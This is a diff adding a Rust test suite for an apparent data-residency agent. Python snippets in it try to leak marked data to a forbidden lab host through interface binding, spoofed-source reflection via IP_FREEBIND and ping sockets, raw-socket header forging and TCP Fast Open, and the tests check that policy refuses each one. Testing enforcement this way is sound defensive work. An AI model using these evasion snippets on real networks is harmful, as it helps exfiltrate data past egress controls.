@@ -1,0 +1,504 @@
+//! Leak attempts of a workload that wants its data on a forbidden host, judged by where
+//! frames arrive: the workload's namespace is routed to an allowed and a forbidden
+//! host, each capturing every frame that reaches it (`residency_tests::routed`). The
+//! workload runs as nobody, with `CAP_NET_RAW` only where a case needs it.
+//!
+//! Each attempt runs twice: from a cgroup no policy binds (the control: the data must
+//! reach the forbidden host there, or the attempt proves nothing), and from the
+//! enforced cgroup, where it must not, and where the refusal is reported with its rule.
+
+use std::path::Path;
+
+use residency_tests::{
+    PORT, Sandbox, agent_binary, output_within, require_root,
+    routed::{
+        ALLOWED_HOST_V4, ALLOWED_HOST_V6, FORBIDDEN_HOST_V4, FORBIDDEN_HOST_V6, Routed,
+        TO_FORBIDDEN, WORKLOAD_ALLOWED_V4, WORKLOAD_ALLOWED_V6,
+    },
+    sh,
+};
+
+const CONFIG: &str = r#"
+[agent]
+pin_path = "{pins}"
+metrics_address = "{metrics}"
+
+[events]
+sinks = ["text"]
+aggregate_window_ms = 0
+rate_limit_per_cpu = 0
+
+[[policy]]
+name = "eu"
+cgroups = ["{cg}/app"]
+allow = ["198.51.100.0/24", "2001:db8:1::/48"]
+
+[[policy]]
+name = "eu-raw"
+cgroups = ["{cg}/raw"]
+allow = ["198.51.100.0/24", "2001:db8:1::/48"]
+allow_raw_sockets = true
+"#;
+
+/// Prints "ok", "timeout" or the errno name of what failed, for every script below.
+const PRELUDE: &str = r#"
+import errno, socket, struct, sys
+def run(f):
+    try:
+        f(); print("ok")
+    except socket.timeout:
+        print("timeout")
+    except OSError as e:
+        print(errno.errorcode.get(e.errno, str(e.errno)))
+"#;
+
+/// `DEV ADDR PORT MARKER OPTION`: an echo to ADDR:PORT through interface DEV chosen
+/// with OPTION: a TCP session with `SO_BINDTODEVICE`, a UDP datagram with
+/// `IP_UNICAST_IF` (which TCP does not use).
+const THROUGH_DEVICE: &str = r#"
+dev, addr, port, marker, option = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4].encode(), sys.argv[5]
+def f():
+    tcp = option == "SO_BINDTODEVICE"
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
+    s.settimeout(1.5)
+    if tcp:
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, dev.encode())
+        s.connect((addr, port)); s.sendall(marker); s.recv(64)
+    else:
+        s.setsockopt(socket.IPPROTO_IP, 50, struct.pack("!I", socket.if_nametoindex(dev)))
+        s.sendto(marker, (addr, port)); s.recv(64)
+run(f)
+"#;
+
+/// `SOURCE DST MARKER`: a UDP datagram from the foreign address SOURCE (bound with
+/// IP_FREEBIND / IPV6_FREEBIND) to a closed port of DST, an allowed address of this
+/// host: the kernel answers the forged source with an ICMP error quoting the data.
+const FREEBIND_REFLECT: &str = r#"
+src, dst, marker = sys.argv[1], sys.argv[2], sys.argv[3].encode()
+def f():
+    v6 = ":" in src
+    s = socket.socket(socket.AF_INET6 if v6 else socket.AF_INET, socket.SOCK_DGRAM)
+    if v6:
+        s.setsockopt(socket.IPPROTO_IPV6, 78, 1)
+    else:
+        s.setsockopt(socket.IPPROTO_IP, 15, 1)
+    s.bind((src, 0)); s.sendto(marker, (dst, 9))
+run(f)
+"#;
+
+/// `SOURCE DST MARKER`: an ICMPv6 echo over a ping socket bound (IPV6_FREEBIND) to
+/// the foreign SOURCE, to DST on this host: the echo reply carries the data to SOURCE.
+const PING_REFLECT: &str = r#"
+src, dst, marker = sys.argv[1], sys.argv[2], sys.argv[3].encode()
+def f():
+    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
+    s.setsockopt(socket.IPPROTO_IPV6, 78, 1)
+    s.bind((src, 0))
+    s.sendto(struct.pack("!BBHHH", 128, 0, 0, 0, 1) + marker, (dst, 0))
+run(f)
+"#;
+
+/// `SOURCE DST MARKER`: an IPv6 datagram whose source is chosen per message
+/// (IPV6_PKTINFO), to a closed port of DST.
+const PKTINFO_SOURCE: &str = r#"
+src, dst, marker = sys.argv[1], sys.argv[2], sys.argv[3].encode()
+def f():
+    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+    info = socket.inet_pton(socket.AF_INET6, src) + struct.pack("=I", 0)
+    s.sendmsg([marker], [(socket.IPPROTO_IPV6, socket.IPV6_PKTINFO, info)], 0, (dst, 9))
+run(f)
+"#;
+
+/// `HEADER_SRC HEADER_DST ROUTE_TO MARKER`: an IPv4 header written by hand on an
+/// IPPROTO_RAW socket, sent with sendto(ROUTE_TO), which is where the kernel routes it.
+const HEADER_VS_ROUTE: &str = r#"
+hsrc, hdst, route, marker = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4].encode()
+def f():
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    udp = struct.pack("!HHHH", 40000, 9, 8 + len(marker), 0) + marker
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
+                     socket.inet_aton(hsrc), socket.inet_aton(hdst))
+    s.sendto(ip + udp, (route, 0))
+run(f)
+"#;
+
+/// `HEADER_SRC DST MARKER`: IP_HDRINCL on a raw UDP socket, forging the source.
+const HDRINCL: &str = r#"
+hsrc, dst, marker = sys.argv[1], sys.argv[2], sys.argv[3].encode()
+def f():
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
+    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+    udp = struct.pack("!HHHH", 40000, 9, 8 + len(marker), 0) + marker
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
+                     socket.inet_aton(hsrc), socket.inet_aton(dst))
+    s.sendto(ip + udp, (dst, 0))
+run(f)
+"#;
+
+/// `ADDR MARKER`: an ICMP echo on a raw socket (no header written by hand).
+const RAW_ICMP: &str = r#"
+addr, marker = sys.argv[1], sys.argv[2].encode()
+def f():
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+    s.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + marker, (addr, 0))
+run(f)
+"#;
+
+/// `ADDR PORT MARKER`: TCP Fast Open, the data in the SYN.
+const FAST_OPEN: &str = r#"
+addr, port, marker = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode()
+def f():
+    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_STREAM)
+    s.settimeout(1.5)
+    s.sendto(marker, 0x20000000, (addr, port)); s.recv(64)
+run(f)
+"#;
+
+/// `ADDR PORT MARKER SIZE`: one UDP datagram of SIZE bytes (fragmented when large)
+/// starting with MARKER, on an IPv6 socket when ADDR is IPv4-mapped.
+const DATAGRAM: &str = r#"
+addr, port, marker, size = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode(), int(sys.argv[4])
+def f():
+    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(marker + b"x" * (size - len(marker)), (addr, port))
+run(f)
+"#;
+
+struct Lab {
+    sb: Sandbox,
+    net: Routed,
+    app: std::path::PathBuf,
+    raw: std::path::PathBuf,
+    free: std::path::PathBuf,
+}
+
+impl Lab {
+    fn new() -> Lab {
+        let mut sb = Sandbox::bare().unwrap();
+        let net = sb.routed().unwrap();
+        let app = sb.cgroup("app").unwrap();
+        let raw = sb.cgroup("raw").unwrap();
+        let free = sb.cgroup("free").unwrap();
+        // The forbidden network answers for the allowed host's address too, as a
+        // network an attacker controls would: a frame sent to the allowed address
+        // through the forbidden link reaches a host that takes it.
+        for (addr, extra) in [
+            (format!("{ALLOWED_HOST_V4}/32"), None),
+            (format!("{ALLOWED_HOST_V6}/128"), Some("nodad")),
+        ] {
+            let mut c = std::process::Command::new("ip");
+            c.args(["-n", &net.forbidden_ns, "addr", "add", &addr, "dev", "lo"]);
+            c.args(extra);
+            sh(&mut c).unwrap();
+        }
+        let bin = agent_binary();
+        let cfg = sb.write_config("residency.toml", CONFIG);
+        sb.start_agent(&bin, &cfg).unwrap();
+        let lab = Lab {
+            sb,
+            net,
+            app,
+            raw,
+            free,
+        };
+        // Resolve every neighbour first: a kernel-made reply (an ICMP error) to a
+        // neighbour not yet resolved can be lost, and a control must not fail by luck.
+        let port = PORT.to_string();
+        for addr in [
+            FORBIDDEN_HOST_V4,
+            FORBIDDEN_HOST_V6,
+            ALLOWED_HOST_V4,
+            ALLOWED_HOST_V6,
+        ] {
+            let r = lab.attempt(&lab.free, &[], DATAGRAM, &[addr, &port, "warm-up", "16"]);
+            assert_eq!(r, "ok", "warm-up to {addr}");
+        }
+        lab
+    }
+
+    /// Runs `script` as nobody in `cgroup` with `caps`; what it printed.
+    fn attempt(&self, cgroup: &Path, caps: &[&str], script: &str, args: &[&str]) -> String {
+        let source = format!("{PRELUDE}{script}");
+        let mut all = vec!["-c", source.as_str()];
+        all.extend_from_slice(args);
+        let out = output_within(
+            &mut self
+                .sb
+                .command_as_nobody(Some(cgroup), caps, "python3", &all),
+            20,
+        );
+        let stdout = String::from_utf8_lossy(&out.stdout).trim().to_owned();
+        assert!(
+            out.status.success() && !stdout.is_empty(),
+            "{script} {args:?}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        stdout
+    }
+
+    /// The attempt reaches the forbidden host from the unbound cgroup (so it is a real
+    /// way out and the capture sees it), and not from `enforced`, where the call fails
+    /// with `refused`. `args` holds `{marker}` where the marker goes.
+    fn leak_closed(
+        &self,
+        enforced: &Path,
+        caps: &[&str],
+        script: &str,
+        args: &[&str],
+        refused: &str,
+    ) {
+        let with =
+            |m: &str| -> Vec<String> { args.iter().map(|a| a.replace("{marker}", m)).collect() };
+        let tag = format!("{:08x}", fastrand_u32());
+        // The control may take a second try: a reply the kernel makes (an ICMP error)
+        // can be lost once while a neighbour entry settles.
+        let mut seen = None;
+        for attempt in 0..3 {
+            let control = format!("leak-control-{tag}-{attempt}");
+            let args_c = with(&control);
+            let r = self.attempt(
+                &self.free,
+                caps,
+                script,
+                &args_c.iter().map(String::as_str).collect::<Vec<_>>(),
+            );
+            if self.net.forbidden_saw(control.as_bytes()) {
+                seen = Some(r);
+                break;
+            }
+        }
+        assert!(
+            seen.is_some(),
+            "control: {script} {args:?} did not reach the forbidden host from an unbound cgroup: the case proves nothing"
+        );
+        let marker = format!("leak-attempt-{tag}");
+        let args_e = with(&marker);
+        let r = self.attempt(
+            enforced,
+            caps,
+            script,
+            &args_e.iter().map(String::as_str).collect::<Vec<_>>(),
+        );
+        assert!(
+            !self.net.forbidden_saw(marker.as_bytes()),
+            "LEAK: {script} {args:?} reached the forbidden host from the enforced cgroup ({r})"
+        );
+        assert_eq!(r, refused, "{script} {args:?}");
+    }
+
+    /// The attempt never reaches the forbidden host from `enforced`.
+    fn no_leak(&self, enforced: &Path, caps: &[&str], script: &str, args: &[&str]) -> String {
+        let marker = format!("leak-attempt-{:08x}", fastrand_u32());
+        let args: Vec<String> = args
+            .iter()
+            .map(|a| a.replace("{marker}", &marker))
+            .collect();
+        let r = self.attempt(
+            enforced,
+            caps,
+            script,
+            &args.iter().map(String::as_str).collect::<Vec<_>>(),
+        );
+        assert!(
+            !self.net.forbidden_saw(marker.as_bytes()),
+            "LEAK: {script} {args:?} reached the forbidden host ({r})"
+        );
+        r
+    }
+
+    fn event(&mut self, needles: &[&str]) -> String {
+        self.sb
+            .agent()
+            .wait_event(needles)
+            .unwrap_or_else(|| panic!("no event with {needles:?}: {:#?}", self.sb.agent().events()))
+    }
+}
+
+/// A different marker per attempt, so that no case can see another's frames.
+fn fastrand_u32() -> u32 {
+    use std::sync::atomic::{AtomicU32, Ordering};
+    static N: AtomicU32 = AtomicU32::new(0);
+    let t = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .subsec_nanos();
+    t ^ N.fetch_add(0x9e37_79b9, Ordering::Relaxed)
+}
+
+#[test]
+fn a_chosen_interface_cannot_carry_an_allowed_address_to_a_forbidden_network() {
+    if !require_root() {
+        return;
+    }
+    let mut lab = Lab::new();
+    let port = PORT.to_string();
+    // Without a capability: the whole TCP session goes to whoever answers for the
+    // allowed address on the forbidden link.
+    for option in ["SO_BINDTODEVICE", "IP_UNICAST_IF"] {
+        lab.leak_closed(
+            &lab.app.clone(),
+            &[],
+            THROUGH_DEVICE,
+            &[TO_FORBIDDEN, ALLOWED_HOST_V4, &port, "{marker}", option],
+            "EPERM",
+        );
+        let e = lab.event(&["policy=eu", "hook=setsockopt", &format!("option={option} ")]);
+        assert!(e.contains("rule=device-binding"), "{e}");
+        assert!(
+            e.contains(r#"comm="python3""#) && e.contains("uid=65534 "),
+            "{e}"
+        );
+    }
+    // The allowed host is still reached the ordinary way.
+    let r = lab.no_leak(
+        &lab.app.clone(),
+        &[],
+        DATAGRAM,
+        &[ALLOWED_HOST_V4, &port, "{marker}", "64"],
+    );
+    assert_eq!(r, "ok");
+}
+
+#[test]
+fn a_foreign_source_cannot_have_this_host_reflect_data_to_it() {
+    if !require_root() {
+        return;
+    }
+    let mut lab = Lab::new();
+    // An ICMPv6 error from this host's kernel, quoting the datagram, goes to the
+    // forged source: no capability needed.
+    lab.leak_closed(
+        &lab.app.clone(),
+        &[],
+        FREEBIND_REFLECT,
+        &[FORBIDDEN_HOST_V6, WORKLOAD_ALLOWED_V6, "{marker}"],
+        "EPERM",
+    );
+    let e = lab.event(&["policy=eu", "option=IPV6_FREEBIND "]);
+    assert!(e.contains("rule=spoofed-source"), "{e}");
+    // IPv4 sends from a foreign source only with IP_TRANSPARENT (CAP_NET_ADMIN) or a
+    // written header, but IP_FREEBIND is refused all the same.
+    let r = lab.no_leak(
+        &lab.app.clone(),
+        &[],
+        FREEBIND_REFLECT,
+        &[FORBIDDEN_HOST_V4, WORKLOAD_ALLOWED_V4, "{marker}"],
+    );
+    assert_eq!(r, "EPERM");
+    let e = lab.event(&["policy=eu", "option=IP_FREEBIND "]);
+    assert!(e.contains("rule=spoofed-source"), "{e}");
+    // An echo reply carries a ping socket's data to the forged source.
+    lab.leak_closed(
+        &lab.app.clone(),
+        &[],
+        PING_REFLECT,
+        &[FORBIDDEN_HOST_V6, WORKLOAD_ALLOWED_V6, "{marker}"],
+        "EPERM",
+    );
+    // A per-message source is refused by the kernel itself once FREEBIND is.
+    let r = lab.no_leak(
+        &lab.app.clone(),
+        &[],
+        PKTINFO_SOURCE,
+        &[FORBIDDEN_HOST_V6, WORKLOAD_ALLOWED_V6, "{marker}"],
+    );
+    assert_ne!(r, "ok", "a foreign IPV6_PKTINFO source was accepted");
+}
+
+#[test]
+fn raw_sockets_are_refused_and_a_written_header_never_decides_the_route() {
+    if !require_root() {
+        return;
+    }
+    let mut lab = Lab::new();
+    // A policy that does not allow raw sockets refuses them (CAP_NET_RAW or not).
+    let r = lab.no_leak(
+        &lab.app.clone(),
+        &["net_raw"],
+        RAW_ICMP,
+        &[FORBIDDEN_HOST_V4, "{marker}"],
+    );
+    assert_eq!(r, "EPERM");
+    let e = lab.event(&["policy=eu", "hook=socket", "rule=raw-socket"]);
+    assert!(e.contains("proto=icmp ") && e.contains("uid=65534 "), "{e}");
+    // Where they are allowed, their packets are judged by the address the kernel
+    // routes to...
+    let r = lab.no_leak(
+        &lab.raw.clone(),
+        &["net_raw"],
+        RAW_ICMP,
+        &[ALLOWED_HOST_V4, "{marker}"],
+    );
+    assert_eq!(r, "ok");
+    lab.leak_closed(
+        &lab.raw.clone(),
+        &["net_raw"],
+        RAW_ICMP,
+        &[FORBIDDEN_HOST_V4, "{marker}"],
+        "EPERM",
+    );
+    // ...and a header written by hand is refused: the header says allowed, the kernel
+    // routes by the sendto() address to the forbidden host.
+    lab.leak_closed(
+        &lab.raw.clone(),
+        &["net_raw"],
+        HEADER_VS_ROUTE,
+        &[
+            WORKLOAD_ALLOWED_V4,
+            ALLOWED_HOST_V4,
+            FORBIDDEN_HOST_V4,
+            "{marker}",
+        ],
+        "EPERM",
+    );
+    // IP_HDRINCL forging the source, reflected by this host's kernel.
+    lab.leak_closed(
+        &lab.raw.clone(),
+        &["net_raw"],
+        HDRINCL,
+        &[FORBIDDEN_HOST_V4, WORKLOAD_ALLOWED_V4, "{marker}"],
+        "EPERM",
+    );
+    let e = lab.event(&["policy=eu-raw", "option=IP_HDRINCL "]);
+    assert!(e.contains("rule=raw-socket"), "{e}");
+}
+
+#[test]
+fn the_ways_out_already_held_stay_held_by_what_arrives() {
+    if !require_root() {
+        return;
+    }
+    let lab = Lab::new();
+    let port = PORT.to_string();
+    let app = lab.app.clone();
+    // TCP Fast Open: the data would ride in the SYN.
+    for addr in [FORBIDDEN_HOST_V4, FORBIDDEN_HOST_V6] {
+        assert_eq!(
+            lab.no_leak(&app, &[], FAST_OPEN, &[addr, &port, "{marker}"]),
+            "EPERM",
+            "TFO to {addr}"
+        );
+    }
+    // An IPv4-mapped destination on an IPv6 socket; a fragmented datagram.
+    let mapped = format!("::ffff:{FORBIDDEN_HOST_V4}");
+    for (addr, size) in [
+        (mapped.as_str(), "64"),
+        (FORBIDDEN_HOST_V4, "4000"),
+        (FORBIDDEN_HOST_V6, "4000"),
+    ] {
+        assert_eq!(
+            lab.no_leak(&app, &[], DATAGRAM, &[addr, &port, "{marker}", size]),
+            "EPERM",
+            "{addr}, {size} bytes"
+        );
+    }
+    // And the allowed host, mapped or fragmented, is still reached.
+    let mapped_ok = format!("::ffff:{ALLOWED_HOST_V4}");
+    for (addr, size) in [(mapped_ok.as_str(), "64"), (ALLOWED_HOST_V6, "4000")] {
+        assert_eq!(
+            lab.no_leak(&app, &[], DATAGRAM, &[addr, &port, "{marker}", size]),
+            "ok",
+            "{addr}, {size} bytes"
+        );
+    }
+}
